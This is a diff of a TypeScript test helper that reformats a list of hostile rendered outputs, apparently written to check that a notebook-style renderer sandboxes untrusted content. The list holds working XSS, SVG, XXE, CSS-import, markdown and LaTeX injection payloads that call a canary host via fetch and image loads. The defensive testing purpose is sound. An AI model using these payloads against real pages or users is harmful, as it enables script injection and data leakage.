@@ -11,7 +11,9 @@ export function hostileOutputs(): readonly Readonly<Record<string, unknown>>[] {
   const address = (): string => `https://${canaryHost}/${++count}`;
   const run = (): string => `window.${canaryName}=1;top.${canaryName}=1;fetch('${address()}');new Image().src='${address()}'`;
   const html = (text: string) => ({ "text/html": text });
-  const svg = (text: string) => ({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">${text}</svg>` });
+  const svg = (text: string) => ({
+    "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">${text}</svg>`,
+  });
   return [
     html(`<script>${run()}</script>`),
     html(`<script src="${address()}.js"></script>`),
@@ -38,7 +40,9 @@ export function hostileOutputs(): readonly Readonly<Record<string, unknown>>[] {
     html(`<embed src="${address()}.svg">`),
     html(`<object data="data:text/html,<script>${run()}</script>"></object>`),
     html(`<link rel="stylesheet" href="${address()}.css">`),
-    html(`<link rel="prefetch" href="${address()}"><link rel="dns-prefetch" href="${address()}"><link rel="preconnect" href="${address()}">`),
+    html(
+      `<link rel="prefetch" href="${address()}"><link rel="dns-prefetch" href="${address()}"><link rel="preconnect" href="${address()}">`,
+    ),
     html(`<style>@import url("${address()}.css"); body { background: url("${address()}.png") }</style>`),
     html(`<div style="background:url('${address()}.png')">styled</div>`),
     html(`<meta http-equiv="refresh" content="0;url=${address()}">`),
@@ -59,15 +63,24 @@ export function hostileOutputs(): readonly Readonly<Record<string, unknown>>[] {
     svg(`<script>${run()}</script>`),
     svg(`<image href="${address()}.png" width="9" height="9"/><image xlink:href="${address()}.png" width="9" height="9"/>`),
     svg(`<style>@import url(${address()}.css);</style><rect width="9" height="9" onload="${run()}" style="fill:url(${address()}.svg#x)"/>`),
-    svg(`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${run()}</script><iframe src="${address()}"/></body></foreignObject>`),
+    svg(
+      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${run()}</script><iframe src="${address()}"/></body></foreignObject>`,
+    ),
     svg(`<a href="javascript:${run()}"><text>click</text></a><use href="${address()}.svg#x"/>`),
-    { "image/svg+xml": `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "${address()}">]><?xml-stylesheet href="${address()}.css"?><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>` },
+    {
+      "image/svg+xml": `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "${address()}">]><?xml-stylesheet href="${address()}.css"?><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>`,
+    },
     { "image/png": `" onerror="${run()}` },
     { "image/jpeg;x": `${address()}` },
     { "application/javascript": run() },
     { "text/markdown": `![](${address()}.png) <img src=x onerror="${run()}"> [click](javascript:${run()})` },
     { "text/latex": `\\href{javascript:${run()}}{click} \\includegraphics{${address()}.png}` },
-    { "application/vnd.plotly.v1+json": { data: [], layout: { images: [{ source: `${address()}.png` }], title: `<img src=x onerror="${run()}">` } } },
+    {
+      "application/vnd.plotly.v1+json": {
+        data: [],
+        layout: { images: [{ source: `${address()}.png` }], title: `<img src=x onerror="${run()}">` },
+      },
+    },
     { "text/plain": `<img src=x onerror="${run()}">` },
   ];
 }
